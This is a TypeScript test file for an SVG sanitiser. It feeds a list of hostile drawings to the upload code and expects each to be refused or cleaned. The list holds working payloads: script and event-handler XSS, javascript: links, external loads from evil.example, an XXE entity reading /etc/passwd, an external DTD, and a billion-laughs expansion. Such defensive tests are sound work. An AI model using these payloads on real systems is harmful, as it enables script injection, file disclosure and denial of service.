import { expect, it } from 'vitest';
import { bar, drawn, made, onlyShapes, svg } from './mark-test-support.ts';

const nested = (depth: number, inside: string) => `${'<g>'.repeat(depth)}${inside}${'</g>'.repeat(depth)}`;
const laughs = `<!DOCTYPE svg [<!ENTITY a "ha">${'bcdefghij'
  .split('')
  .map((name, index) => `<!ENTITY ${name} "${`&${'abcdefghi'[index]};`.repeat(10)}">`)
  .join('')}]>`;

const hostile: readonly (readonly [name: string, text: string])[] = [
  ['a script', svg(`<script>alert(1)</script>${bar}`)],
  ['a script in CDATA', svg(`<script><![CDATA[alert(1)]]></script>${bar}`)],
  ['an external script', svg(`<script xlink:href="https://evil.example/x.js"/>${bar}`)],
  ['a script under another prefix', svg(`<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>${bar}`)],
  ['a script in the HTML namespace', svg(`<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>${bar}`)],
  ['onload', svg(bar, 'viewBox="0 0 100 60" onload="alert(1)"')],
  ['onclick on a shape', svg(`<path onclick="alert(1)" d="M10 10h80v8H10z"/>`)],
  [
    'an HTML page inside',
    svg(
      `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></body></foreignObject>${bar}`,
    ),
  ],
  ['a javascript: link', svg(`<a xlink:href="javascript:alert(1)">${bar}</a>`)],
  ['a data: picture', svg(`<image href="data:image/svg+xml;base64,PHN2Zy8+" width="9" height="9"/>${bar}`)],
  ['an external picture', svg(`<image xlink:href="https://evil.example/x.png" width="9" height="9"/>${bar}`)],
  ['use of an external file', svg(`<use href="https://evil.example/x.svg#a"/>${bar}`)],
  ['use of a data: URL', svg(`<use href="data:image/svg+xml,%3Csvg id='a'/%3E#a"/>${bar}`)],
  ['an imported style sheet', svg(`<style>@import url(https://evil.example/x.css);</style>${bar}`)],
  [
    'a style sheet instruction',
    svg(bar, 'viewBox="0 0 100 60"', '<?xml-stylesheet href="https://evil.example/x.css"?>'),
  ],
  ['an external background', svg(`<g style="background:url(https://evil.example/x)">${bar}</g>`)],
  ['an external fill', svg(`<g fill="url(https://evil.example/x#a)">${bar}</g>`)],
  [
    'escaped markup in path data',
    svg(`<path d='M10 10h80v8H10z"/&gt;&lt;script&gt;alert(1)&lt;/script&gt;' /><path d="M10 10h80v8H10z"/>`),
  ],
  ['escaped markup in a transform', svg(`<path d="M10 10h80v8H10z" transform="&quot;&gt;&lt;script&gt;"/>`)],
  ['animation of a link', svg(`<a><animate attributeName="href" values="javascript:alert(1)"/>${bar}</a>`)],
  [
    'animation',
    svg(
      `<path d="M10 10h80v8H10z"><animate attributeName="d" to="x" begin="0s"/><set attributeName="onclick" to="alert(1)"/></path>`,
    ),
  ],
  ['a handler', svg(`<handler type="application/ecmascript">alert(1)</handler>${bar}`)],
  ['a filter', svg(`<filter id="f"><feImage href="https://evil.example/x"/></filter><g filter="url(#f)">${bar}</g>`)],
  [
    'an external entity (XXE)',
    svg(`<desc>&x;</desc>${bar}`, 'viewBox="0 0 100 60"', '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
  ],
  [
    'an external DTD',
    svg(bar, 'viewBox="0 0 100 60"', '<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]>'),
  ],
  ['a billion laughs', svg(`<desc>&j;</desc>${bar}`, 'viewBox="0 0 100 60"', laughs)],
  ['15,000 nested groups', svg(nested(15_000, bar))],
  ['60 nested groups', svg(nested(60, bar))],
  ['4,000 shapes', svg('<path d="M1 1h9v9z"/>'.repeat(4000))],
  ['a huge viewBox', svg(bar, 'viewBox="0 0 1e30 1e30"')],
  ['a viewBox without numbers', svg(bar, 'viewBox="0 0 NaN Infinity"')],
  ['an empty viewBox', svg(bar, 'viewBox="0 0 0 0"')],
  ['five megabytes', svg(`${bar}<!--${'x'.repeat(5_000_000)}-->`)],
  ['a million dashes', svg('<path d="M10 10h80" stroke="#000" stroke-width="9" stroke-dasharray="0.00001"/>')],
  ['huge coordinates', svg(`${bar}<circle cx="1e300" cy="-1e300" r="1e308"/>`)],
  ['HTML instead of SVG', '<!doctype html><script>alert(1)</script>'],
  ['HTML around the SVG', `<html>${svg(bar)}</html>`],
  ['an unclosed root element', svg(bar).slice(0, -9)],
  ['UTF-16 encoding', Buffer.from(`\uFEFF${svg(`<script>alert(1)</script>${bar}`)}`, 'utf16le').toString('latin1')],
];

it.each(hostile)('a drawing with %s is refused or sanitised', async (_name, text) => {
  const began = performance.now();
  const file = await made(text);
  expect(performance.now() - began).toBeLessThan(10_000);
  if ('refused' in file) expect(file.refused).toMatch(/^[A-Z][^\n]{10,220}\.$/);
  else expect(drawn(file)).toMatch(onlyShapes);
});
